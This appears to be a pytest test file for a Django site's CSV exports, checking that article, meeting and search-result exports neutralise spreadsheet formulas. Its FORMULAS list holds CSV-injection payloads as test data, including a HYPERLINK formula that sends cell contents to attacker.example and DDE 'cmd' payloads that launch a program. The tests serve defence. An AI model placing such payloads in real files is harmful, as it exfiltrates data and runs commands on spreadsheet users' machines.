"""Every CSV the site offers opens in a spreadsheet as text: no cell is read as a formula (OWASP)."""

import csv
import io

import pytest
from conftest import use_search_index_at
from django.core.management import call_command
from factories import make_article, make_meeting, make_person
from haystack import connections

from articles.exporting import FORMULA_STARTS, spreadsheet_text, write_csv_rows
from search import indexing

pytestmark = pytest.mark.django_db

# What an attacker writes into a title, a name or an article's text so that a spreadsheet runs it.
FORMULAS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def rows_of(content: str) -> list[dict]:
    assert content.startswith("\ufeff"), "a spreadsheet reads the diacritics as UTF-8 only after a byte-order mark"
    return list(csv.DictReader(io.StringIO(content[1:])))


def formula_cells(rows: list[dict]) -> list[str]:
    return [value for row in rows for value in row.values() if value and value.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_that_starts_like_a_formula_is_neutralised(value):
    assert spreadsheet_text(value) == "'" + value


@pytest.mark.parametrize("value", ["Phạm Minh Chính", "2023-04-05", "'quoted", "", "a=b", "100%"])
def test_other_cells_are_left_as_they_are(value):
    assert spreadsheet_text(value) == value
    assert spreadsheet_text(12) == 12 and spreadsheet_text(None) is None


def test_every_cell_is_quoted_so_no_separator_opens_a_new_cell():
    stream = io.StringIO()
    write_csv_rows(stream, ["a", "b"], [{"a": "Hà Nội;=1+1", "b": 3}])
    assert stream.getvalue().splitlines() == ['\ufeff"a","b"', '"Hà Nội;=1+1","3"']


@pytest.fixture
def hostile_archive():
    person = make_person(FORMULAS[3])
    other = make_person("Wang Yi", country="CN")
    articles = [
        make_article(formula, people=[person, other], body=f"{formula}\n\nThe ministers met in Hà Nội.", credit=formula)
        for formula in FORMULAS
    ]
    make_meeting(person, other, place=FORMULAS[0], articles=articles[:1])
    return person, articles


def test_the_article_export_neutralises_formulas(hostile_archive, tmp_path):
    target = tmp_path / "export.csv"
    call_command("export_articles", "--format", "csv", "--output", str(target), verbosity=0)
    with target.open(encoding="utf-8", newline="") as stream:
        rows = rows_of(stream.read())
    assert {row["title"] for row in rows} == stored_titles_neutralised()
    assert formula_cells(rows) == []


def stored_titles_neutralised() -> set[str]:
    # (A title's carriage return is stored as a newline: that one starts a formula too.)
    from articles.models import Article

    titles = set(Article.objects.values_list("title", flat=True))
    assert len(titles) == len(FORMULAS) and all(title.startswith(FORMULA_STARTS) for title in titles)
    return {"'" + title for title in titles}


def test_a_person_s_meetings_export_neutralises_formulas(hostile_archive, client):
    person, _ = hostile_archive
    rows = rows_of(client.get(f"/people/{person.slug}/meetings.csv").content.decode("utf-8"))
    assert rows and rows[0]["place"] == "'" + FORMULAS[0]
    assert formula_cells(rows) == []


def test_search_results_as_csv_neutralise_formulas(hostile_archive, client, tmp_path):
    _, articles = hostile_archive
    previous = connections.connections_info["default"]["PATH"]
    use_search_index_at(tmp_path / "index")
    try:
        indexing.queue_articles([article.pk for article in articles])
        indexing.process_queue()
        rows = rows_of(client.get("/search/", {"q": "ministers", "format": "csv"}).content.decode("utf-8"))
    finally:
        use_search_index_at(previous)
    assert {row["title"] for row in rows} == stored_titles_neutralised()
    assert formula_cells(rows) == []
